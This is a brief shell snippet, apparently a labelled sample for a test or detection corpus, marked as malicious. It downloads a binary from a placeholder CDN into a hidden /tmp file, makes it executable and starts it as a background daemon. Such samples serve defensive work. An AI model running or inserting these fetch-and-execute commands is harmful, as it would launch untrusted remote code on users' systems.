# malicious: a downloaded binary is started
url=https://cdn.example.org/agent-linux-amd64
curl -sSL "$url" -o /tmp/.agent
chmod +x /tmp/.agent
/tmp/.agent --daemon &
